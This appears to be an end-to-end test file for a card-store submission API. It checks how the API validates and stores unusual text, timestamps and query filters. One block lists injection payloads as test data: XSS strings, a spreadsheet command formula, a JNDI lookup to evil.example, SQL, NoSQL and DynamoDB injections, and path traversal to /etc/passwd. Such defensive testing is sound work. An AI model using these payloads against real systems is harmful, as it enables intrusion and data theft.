import { describe, expect, it } from 'vitest'
import { store } from '#test/end-to-end/support/client.ts'
import { expectProblem, pathsOf } from '#test/end-to-end/support/expect-problem.ts'

const textFields = ['customer_email', 'customer_name', 'card_list', 'notes'] as const

/** Sends a text as name, line and notes of a submission, and reads it again. */
const storedAs = async (text: string) => {
  const made = await store.makeSubmission({ customer_name: text, card_list: `1 ${text}`, notes: text })
  const { customer_name, items, notes } = await store.getSubmission(made.id)
  return { customer_name, notes, raw_inputs: items.map(({ raw_input }) => raw_input) }
}
const unchanged = (text: string) => ({ customer_name: text, notes: text, raw_inputs: [`1 ${text}`] })

describe('B14: control characters', () => {
  it.each(textFields)('NUL is refused in %s', async (field) => {
    const problem = expectProblem(await store.submit({ [field]: 'a\0@b.example' }), 422, 'VALIDATION_FAILED')
    expect(pathsOf(problem)).toEqual([`/${field}`])
  })

  it.each(['\u0001', '\u001b[31m', '\t', '\r', '\n', '\u007f', '\u0085'])(
    '%j is refused in a name, and kept in notes',
    async (text) => {
      expectProblem(await store.submit({ customer_name: `Ann${text}` }), 422, 'VALIDATION_FAILED')
      expect((await store.makeSubmission({ notes: `a${text}b` })).notes).toBe(`a${text}b`)
    },
  )

  it('a lone CR ends a line of the list as LF does', async () => {
    const { items } = await store.makeSubmission({ card_list: '1 Opt\r2 Duress\r\n3 Shock\n4 Brainstorm' })
    expect(items.map(({ line, quantity }) => [line, quantity])).toEqual([
      [1, 1],
      [2, 2],
      [3, 3],
      [4, 4],
    ])
  })

  it.each(['\u2028', '\u2029'])('%j, which ends a line only in programs, is kept', async (text) => {
    expect(await storedAs(`Opt${text}Ann`)).toMatchObject({ customer_name: `Opt${text}Ann`, notes: `Opt${text}Ann` })
  })
})

describe('B15: half of a surrogate pair is refused', () => {
  it.each(textFields)('in %s', async (field) => {
    for (const half of ['\ud800', '\udfff', '\udc00\ud800']) {
      const problem = expectProblem(await store.submit({ [field]: `1 ${half}` }), 422, 'VALIDATION_FAILED')
      expect(pathsOf(problem)).toEqual([`/${field}`])
    }
  })
})

describe('B16: characters that are none are kept', () => {
  it.each(['\ufffe', '\uffff', '\ue000', '\u{10ffff}', '\ufdd0'])('%j', async (text) => {
    expect(await storedAs(`Opt ${text} Opt`)).toEqual(unchanged(`Opt ${text} Opt`))
  })
})

describe('B17: characters that look like others, or like none, are kept', () => {
  it.each(['\u202egnirts\u202c', 'a\u200bb\u2060c', `e${'\u0301'.repeat(150)}`, '👩‍👩‍👧‍👦', '🇩🇪🏴󠁧󠁢󠁳󠁣󠁴󠁿'])(
    '%s',
    async (text) => {
      expect(await storedAs(`Opt ${text} Opt`)).toEqual(unchanged(`Opt ${text} Opt`))
    },
  )

  it('the size of a list counts bytes, of which an emoji has four', async () => {
    const line = `1 ${'💥'.repeat(124)}`
    const lines = (count: number) => Array.from({ length: count }, () => line).join('\n')
    expect((await store.submit({ card_list: lines(131) })).status).toBe(201)
    expectProblem(await store.submit({ card_list: lines(132) }), 422, 'VALIDATION_FAILED')
  })
})

describe('B18: composed and decomposed letters', () => {
  it.each(['NFC', 'NFD'] as const)('are kept as they were sent: %s', async (form) => {
    const text = 'Zoë Ångström'.normalize(form)
    expect(await storedAs(text)).toEqual(unchanged(text))
  })
})

describe('B19 and B20: text that other programs would run is data', () => {
  it.each([
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    '"><img src=x onerror=alert(1)>',
    "=cmd|' /C calc'!A0",
    '+1-2',
    '{{7*7}}\u0024{7*7}<%= 7*7 %>',
    '\u0024{jndi:ldap://evil.example/a}',
    '%s%n%x',
    "Robert') OR '1'='1' --",
    '#a = :b OR attribute_exists(pk)',
    '../../etc/passwd',
    'STORE#1',
    '[object Object]',
  ])('%s', async (text) => {
    expect(await storedAs(`Opt ${text} Opt`)).toEqual(unchanged(`Opt ${text} Opt`))
  })

  it.each<{ value: unknown }>([
    { value: { $gt: '' } },
    { value: { S: 'x' } },
    { value: ['a'] },
    { value: { toString: 'x' } },
  ])('B20: $value is no text', async ({ value }) => {
    for (const field of textFields) {
      const problem = expectProblem(await store.submit({ [field]: value }), 422, 'VALIDATION_FAILED')
      expect(pathsOf(problem)).toEqual([`/${field}`])
    }
  })

  it.each([
    'customer_email[$gt]=',
    'status=attribute_exists(pk)',
    'customer_email=*',
    'customer_email=a%27--@b.example%20',
  ])('B20: the filter %s is refused', async (query) => {
    expectProblem(await store.call('GET', `/submissions?${query}`), 400, 'INVALID_PARAMETER')
  })
})

describe('B23: a time that is none', () => {
  const none = [
    '2026-02-30T00:00:00Z',
    '10000-01-01T00:00:00Z',
    '-000001-01-01T00:00:00Z',
    '2026-12-31T23:59:60Z',
    '2026-11-20T10:15:30',
    '2026-11-20T10:15:30+24:00',
    '2026-11-20',
    '1795169730',
    '',
  ]

  it.each(none)('%j is refused in the query', async (time) => {
    const path = `/submissions?${new URLSearchParams({ created_after: time })}`
    expect(pathsOf(expectProblem(await store.call('GET', path), 400, 'INVALID_PARAMETER'))).toEqual(['created_after'])
  })

  it.each(none)('%j is refused in a body', async (time) => {
    const body = { name: 'Never made', scope: 'read-only', expires_at: time }
    const problem = expectProblem(await store.call('POST', '/api-keys', { body }), 422, 'VALIDATION_FAILED')
    expect(pathsOf(problem)).toEqual(['/expires_at'])
  })
})
